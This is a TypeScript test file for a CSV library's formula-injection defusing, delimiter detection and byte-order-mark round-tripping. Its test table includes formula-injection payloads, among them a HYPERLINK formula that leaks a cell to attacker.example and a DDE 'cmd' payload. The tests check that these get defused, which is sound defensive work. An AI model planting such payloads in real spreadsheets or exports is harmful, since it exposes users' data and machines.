/**
 * Formula defusing and the result file's forms (delimiter, byte order mark), tested directly
 * (pure library code): which cells get an apostrophe, that the rule is undone exactly, and that
 * every form reads back cell for cell with the package's own reader and with csv-parse (the
 * parser n8n's Extract From File uses), the delimiter and the byte order mark found again.
 */
import { readFileSync } from 'fs';
import path from 'path';

import { parse as oracleParse } from 'csv-parse/sync';

import { CsvParser, parseCsv } from '../../nodes/shared/csv/csv';
import { delimiterOf } from '../../nodes/shared/csv/csvScanner';
import { CsvStream, type CsvDelimiter } from '../../nodes/shared/csv/csvWriter';
import { defuseFormula, needsDefusing, undefuseFormula } from '../../nodes/shared/csv/formulas';
import { randomFraction } from '../sandbox/random';

/** Each cell and whether a result file writes it with an apostrophe in front. */
export const FORMULA_TABLE: Array<[string, boolean]> = [
	['=1+2', true],
	['=HYPERLINK("http://attacker.example/?leak="&B2,"Click for details")', true],
	['+1+2', true],
	['-1+A1', true],
	['@SUM(A1:A9)', true],
	['\t=1+2', true],
	['\r=1+2', true],
	['=', true],
	['-', true],
	['--', true],
	['- call back on Monday', true],
	['-x', true],
	['+', true],
	['@', true],
	['@user', true],
	['+1 415 555 2671 ext 3', true],
	['-2+3*A1', true],
	['-cmd|\' /C calc\'!A0', true],
	["'=1+2", true],
	["''@x", true],
	['=1+2\nsecond line', true],
	// Signed numbers and phone numbers: no letter, no quote, nothing a formula could harm with.
	['-12.5', false],
	['+12.5', false],
	['-12,5', false],
	['-0', false],
	['+14152007986', false],
	['+1 415 555 2671', false],
	['+1-415-555-2671', false],
	['+1 (415) 555-2671', false],
	['+44 20 7183 8750', false],
	['-1-2', false],
	['- 5', false],
	// Not starting with a trigger.
	['2024-01-05', false],
	['05/01/2024', false],
	['12:30', false],
	['1+2', false],
	[' =1+2', false],
	['\n=1+2', false],
	['＝1+2', false],
	["'x", false],
	["'", false],
	['', false],
	['Zoë Ångström', false],
	['plain text', false],
	['"quoted"', false],
];

describe('needsDefusing: which cells get an apostrophe', () => {
	it.each(FORMULA_TABLE.map(([cell, defused]) => [JSON.stringify(cell), cell, defused] as const))('%s', (_shown, cell, defused) => {
		expect(needsDefusing(cell)).toBe(defused);
		expect(defuseFormula(cell)).toBe(defused ? `'${cell}` : cell);
	});

	it('is undone exactly, for the table and for random cells of apostrophes, triggers and digits', () => {
		for (const [cell] of FORMULA_TABLE) expect(undefuseFormula(defuseFormula(cell))).toBe(cell);
		const random = randomFraction(23);
		const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', '1', ' ', '.', 'a', '(', '"'];
		for (let round = 0; round < 5000; round++) {
			let cell = '';
			const length = Math.floor(random() * 6);
			for (let at = 0; at < length; at++) cell += alphabet[Math.floor(random() * alphabet.length)];
			const written = defuseFormula(cell);
			expect(undefuseFormula(written)).toBe(cell);
		}
	});
});

describe("the docs' way to undo the rule in a Code node", () => {
	it('gives back every cell as undefuseFormula does', () => {
		const docs = readFileSync(path.join(__dirname, '../../docs/bulk-csv.md'), 'utf8');
		const code = /```js\n(const needs = [^\n]+\nconst original = [^\n]+)\n```/.exec(docs)?.[1];
		expect(code).toBeDefined();
		// The two lines as a function of the cell `c`, as a Code node would run them.
		const undo = new Function('c', `${code}\nreturn original;`) as (cell: string) => string;
		const cells = [...FORMULA_TABLE.map(([cell]) => cell), "'", "''", "'-12.5", "''=1", "'- 5"];
		for (const cell of cells) {
			expect(undo(defuseFormula(cell))).toBe(cell);
			expect(undo(defuseFormula(cell))).toBe(undefuseFormula(defuseFormula(cell)));
		}
	});
});

const RECORDS: string[][] = [
	['name', 'note', 'phone'],
	...FORMULA_TABLE.map(([cell], index) => [`Lead ${index} Müller`, cell, index % 2 === 0 ? '+1 415 555 2671' : '-12.5']),
	['a;b', 'c\td', 'e,f'],
	['  spaced  ', '"', 'line\r\nbreak'],
];

async function written(delimiter: CsvDelimiter, byteOrderMark: boolean, defuseFormulas: boolean): Promise<{ bytes: Buffer; defused: number }> {
	const stream = new CsvStream({ delimiter, byteOrderMark, defuseFormulas });
	const parts: Buffer[] = [];
	const reading = (async () => {
		for await (const chunk of stream.chunks()) parts.push(chunk);
	})();
	for (const record of RECORDS) await stream.write(record);
	await stream.end();
	await reading;
	return { bytes: Buffer.concat(parts), defused: stream.writer.defused };
}

const VARIANTS = ([',', ';', '\t'] as const).flatMap((delimiter) =>
	[true, false].flatMap((byteOrderMark) => [true, false].map((defuse) => [JSON.stringify(delimiter), byteOrderMark, defuse, delimiter] as const)),
);

describe('a result file in every form reads back exactly', () => {
	it.each(VARIANTS)('delimiter %s, byte order mark %s, defused %s', async (_shown, byteOrderMark, defuse, delimiter) => {
		const { bytes, defused } = await written(delimiter, byteOrderMark, defuse);
		const expected = defuse ? RECORDS.map((record) => record.map(defuseFormula)) : RECORDS;
		expect(defused).toBe(defuse ? FORMULA_TABLE.filter(([, yes]) => yes).length : 0);
		expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(byteOrderMark);
		// The package's reader, the delimiter detected from the header row.
		const own = parseCsv(bytes, { delimiter: 'detect' }).map((row) => row.fields);
		expect(own).toEqual(expected);
		// csv-parse, as n8n's Extract From File reads a CSV file (the delimiter given, a BOM skipped).
		expect(oracleParse(bytes, { bom: true, delimiter })).toEqual(expected);
		if (defuse) expect(expected.map((record) => record.map(undefuseFormula))).toEqual(RECORDS);
	});
});

describe('delimiterOf: the delimiter of a file, from its first record', () => {
	it.each([
		['a comma file', 'name,email\nAnn;x,a@b.c\n', ','],
		['a comma in the first record wins (a comma file reads as it always has)', 'name,note;x\n', ','],
		['a semicolon file, as Excel writes it in most of Europe', 'Name;E-Mail;Notiz\nMüller;m@x.de;"a, b"\n', ';'],
		['a tab file', 'name\temail\nAnn\ta@b.c\n', '\t'],
		['delimiters inside quotes do not count', '"a,b";"c,d"\n', ';'],
		['a quoted line break does not end the first record', '"a\nb,c";d\n', ';'],
		['one column', 'email\na@b.c\n', ','],
	])('%s', (_name, text, delimiter) => {
		expect(String.fromCharCode(delimiterOf(Buffer.from(text)))).toBe(delimiter);
	});

	it('detects the same whether the first record comes whole or a byte at a time, after a byte order mark', () => {
		const text = Buffer.from('\ufeffName;Notiz\r\n"Zoë; Ünal";"=1+2"\r\nBob;plain\r\n');
		const whole = parseCsv(text, { delimiter: 'detect' }).map((row) => row.fields);
		expect(whole).toEqual([
			['Name', 'Notiz'],
			['Zoë; Ünal', '=1+2'],
			['Bob', 'plain'],
		]);
		const rows: string[][] = [];
		const parser = new CsvParser((row) => rows.push(row.fields), { delimiter: 'detect' });
		for (const byte of text) parser.push(Uint8Array.of(byte));
		parser.end();
		expect(rows).toEqual(whole);
		expect(parser.byteOrderMark).toBe(true);
		expect(String.fromCharCode(parser.delimiter)).toBe(';');
	});
});
